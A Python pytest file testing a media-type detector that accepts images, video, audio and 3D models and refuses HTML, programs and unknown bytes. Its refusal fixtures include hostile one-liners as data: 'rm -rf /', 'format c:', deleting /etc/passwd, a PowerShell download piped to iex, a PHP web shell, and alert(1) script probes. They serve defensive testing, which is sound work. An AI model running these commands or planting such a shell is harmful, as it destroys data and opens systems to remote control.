import io
import json
import struct
import zipfile

import pytest

from handlers.detect import detect

MESH = {"accessors": [{"componentType": 5126, "count": 3}] * 40, "meshes": [], "asset": {"version": "2.0"}}


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    brands = major + bytes(4) + b"".join(compatible)
    return (8 + len(brands)).to_bytes(4, "big") + b"ftyp" + brands + bytes(64)


def zipped(name: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, "content")
    return buffer.getvalue()


STORED = {
    "avif": (ftyp(b"avif", b"mif1", b"miaf"), "image/avif"),
    "avif under another major brand": (ftyp(b"mif1", b"mif1", b"avif"), "image/avif"),
    "avif sequence": (ftyp(b"avis", b"msf1", b"avis"), "image/avif"),
    "heic": (ftyp(b"heic", b"mif1", b"heic"), "image/heic"),
    "heic under another major brand": (ftyp(b"mif1", b"heic"), "image/heic"),
    "mp4": (ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41"), "video/mp4"),
    "mp4 of version 2": (ftyp(b"mp42", b"isom"), "video/mp4"),
    "apple's mp4": (ftyp(b"M4V ", b"isom"), "video/mp4"),
    "mov": (ftyp(b"qt  ", b"qt  "), "video/quicktime"),
    "m4a": (ftyp(b"M4A ", b"isom", b"mp42"), "audio/mp4"),
    "webm": (b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm" + bytes(32), "video/webm"),
    "mkv": (b"\x1a\x45\xdf\xa3\xa3\x42\x86\x81\x01\x42\x82\x88matroska" + bytes(32), "video/x-matroska"),
    "mp3 without tag": (b"\xff\xfb\x90\x64" + bytes(413), "audio/mpeg"),
    "mp3 with a tag larger than the head": (b"ID3\x04\0\0\0\x7f\x7f\x7fAPIC" + bytes(4000), "audio/mpeg"),
    "bare ID3": (b"ID3\x03\0\0\0\0\0\x0a" + bytes(10), "audio/mpeg"),
    "flac behind a tag": (b"ID3\x03\0\0\0\0\0\x0a" + bytes(10) + b"fLaC\0\0\0\x22", "audio/flac"),
    "aac behind a tag": (b"ID3\x03\0\0\0\0\0\x0a" + bytes(10) + b"\xff\xf1\x50\x80", "audio/aac"),
    "glb": (b"glTF\x02\0\0\0\x14\0\0\0\0\0\0\0JSON", "model/gltf-binary"),
    "gltf": (b'\xef\xbb\xbf {"asset": {"version": "2.0"}, "scene": 0}', "model/gltf+json"),
    "gltf with its asset at the end": (json.dumps(MESH).encode(), "model/gltf+json"),
    "obj": (b"# made by hand\nmtllib a.mtl\no cube\nv 0 0 0\nv 1 0 0.5e-3\nvt 0 1\nf 1/1 2/2 3/3\n", "model/obj"),
    "obj cut in a line": (b"v 0 0 0\nv 1 2 3\nthi", "model/obj"),
    "ply": (b"ply\nformat ascii 1.0\ncomment x\nelement vertex 3\n", "model/ply"),
    "ply of splats": (b"ply\r\nformat binary_little_endian 1.0\r\nelement vertex 9\r\n", "model/ply"),
    "zip": (zipped("scene/mesh.obj"), "application/zip"),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
    "svg with a prefix": (b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
    "text": (b"v is a letter\nand f another\n", "text/plain"),
    "text that begins with a bracket": (b"[Verse 1]\nA song, a song\n", "text/plain"),
    "text cut in a character": ("\u00e4".encode() * 2047 + b"a\xc3", "text/plain"),
    "json": (b'{"error": "not found", "meshes": 0}', "application/json"),
    "json cut in a text": (b'[{"caption": "a cat', "application/json"),
    "csv": (b"name,seed\r\na,1\r\nb,2\r\n", "text/csv"),
    "safetensors": (
        struct.pack("<Q", 0x464C457F & 0xFFFFFF) + b'{"__metadata__":{"format":"pt"}}',
        "application/x-safetensors",
    ),
    "arrays": (zipped("embedding.npy"), "application/x-npz"),
    "3mf that begins with its model": (zipped("3D/3dmodel.model"), "model/3mf"),
    "3gp": (ftyp(b"3gp5", b"3gp5", b"isom"), "video/3gpp"),
    "fbx in text without a comment": (b"FBXHeaderExtension:  {\n}\n", "model/fbx"),
    "stl in text": (b"solid a\n facet normal 0 0 1\n  outer loop\n", "model/stl"),
    "subtitles with a byte order mark": (
        b"\xef\xbb\xbf1\r\n00:00:01,000 --> 00:00:02,000\r\nA\r\n",
        "application/x-subrip",
    ),
}
REFUSED = {
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "application/pdf"),
    "html": (b"<!DOCTYPE html><html><body>v 0 0 0</body></html>", "text/html"),
    "a program": (
        b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(64),
        "application/x-executable",
    ),
    "a program for windows": (b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(200), "application/"),
    "text in another encoding": ("gr\u00fcn\n".encode("latin-1"), "text/plain"),
    "text of two bytes a character": ("green".encode("utf-16"), "text/plain"),
    "other xml": (b"<?xml version='1.0'?><feed/>", "text/xml"),
    "pytorch weights": (zipped("archive/data.pkl"), "application/octet-stream"),
    "ogg video": (b"OggS" + bytes(24) + b"\x80theora" + bytes(64), "application/octet-stream"),
    "glTF 1": (b"glTF\x01\0\0\0\x14\0\0\0\0\0\0\0", "application/octet-stream"),
    "noise": (bytes(range(1, 256)) * 4, "application/octet-stream"),
    "nothing": (b"", "application/x-empty"),
}


PREFIXES = {
    "nothing": b"",
    "a byte order mark": b"\xef\xbb\xbf",
    "blank lines": b"\r\n\n \t\n",
    "a prolog": b'<?xml version="1.0" encoding="UTF-8"?>\n',
    "a prolog and a comment": b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- \xff\xd8\xff GIF89a glTF v 0 0 0 -->\n',
}
SVG = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><path d="M 0 0"/></svg>',
    "svg with a doctype": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd">\n<svg width="9"></svg>',
}
MARKUP = {
    "html": b"<html><head></head><body><script>alert(1)</script></body></html>",
    "html in capitals": b"<HTML><BODY>v 0 0 0\nf 1 1 1</BODY></HTML>",
    "a script alone": b"<script>alert(1)</script>",
    "xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
}
PROGRAMS = {
    "linux": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(80),
    "windows": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(200),
    "dos": b"MZ" + bytes(126),
    "macos": b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(80),
    "macos, for all processors": b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07" + bytes(80),
    "java": b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d" + bytes(80),
    "java archive": zipped("META-INF/MANIFEST.MF"),
    "wasm": b"\0asm\x01\0\0\0" + bytes(40),
    "android": b"dex\n035\0" + bytes(80),
    "shell": b"#!/bin/sh\nexec rm -rf /\n",
    "shell that looks like a model": b"#!/bin/sh\nv 0 0 0\nf 1 1 1\n",
    "python": b"#!/usr/bin/env python3\nimport os\n",
    "batch": b"@echo off\r\nformat c:\r\n",
    "javascript": b"const fs = require('fs');\nfs.unlinkSync('/etc/passwd');\n",
    "python without a first line": b"import os\nos.remove('a')\n",
    "powershell": b"Invoke-WebRequest https://example.com | iex\n",
    "php": b"<?php system($_GET['c']); ?>\n",
    "pdf behind a line": b"\n%PDF-1.7\n1 0 obj\n",
    "word": zipped("word/document.xml"),
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n",
}


@pytest.mark.parametrize("before", PREFIXES)
@pytest.mark.parametrize("name", MARKUP)
def test_html_is_refused_after_any_prefix(name: str, before: str) -> None:
    assert detect(PREFIXES[before] + MARKUP[name], "https://fal.media/files/a.png").media is None


@pytest.mark.parametrize("before", PREFIXES)
@pytest.mark.parametrize("name", SVG)
def test_svg_is_detected_after_any_prefix(name: str, before: str) -> None:
    assert detect(PREFIXES[before] + SVG[name]).mime_type == "image/svg+xml"


@pytest.mark.parametrize("name", PROGRAMS)
def test_programs_and_documents_are_not_stored(name: str) -> None:
    assert detect(PROGRAMS[name], "https://fal.media/files/a.png").media is None


@pytest.mark.parametrize("name", STORED)
def test_a_stored_type_is_detected(name: str) -> None:
    content, content_type = STORED[name]
    found = detect(content)
    assert found.media is not None
    assert (found.media.content_type, found.mime_type) == (content_type, content_type)


@pytest.mark.parametrize("name", REFUSED)
@pytest.mark.parametrize("url", [None, "https://fal.media/files/a.png"])
def test_a_refused_type_is_refused_with_any_url(name: str, url: str | None) -> None:
    content, sniffed = REFUSED[name]
    found = detect(content, url)
    assert found.media is None
    assert found.mime_type.startswith(sniffed)


@pytest.mark.parametrize("name", STORED)
def test_a_truncated_head_never_raises(name: str) -> None:
    content, _ = STORED[name]
    for end in range(min(len(content), 48)):
        assert isinstance(detect(content[:end]).mime_type, str)
